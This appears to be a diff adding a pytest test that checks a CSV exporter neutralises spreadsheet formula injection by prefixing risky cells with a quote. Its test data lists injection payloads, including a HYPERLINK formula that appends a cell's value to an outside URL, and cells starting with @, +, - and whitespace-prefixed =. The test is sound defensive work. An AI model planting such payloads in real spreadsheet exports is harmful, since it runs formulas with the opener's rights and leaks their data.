@@ -194,3 +194,15 @@ def test_csv_leaves_what_is_not_known_empty():
         "",
         "",
     )
+
+
+FORMULAS = ('=HYPERLINK("http://example.org/?"&A1)', "@SUM(1+1)", "+1", "-2+3", " =1", "\t=1", "\r=1")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_of_a_csv_file_is_a_formula(text):
+    """A spreadsheet runs what begins like one, with the rights of whoever opens the file."""
+    rows = [row_of(made, measurement(made, 1e-3)) for made in (case("out", rail=text),)]
+    (read,) = csv.DictReader(io.StringIO(exports.csv_text(rows), newline=""))
+    assert read["rail"] == f"'{text}"
+    assert read["root"] == "-1"
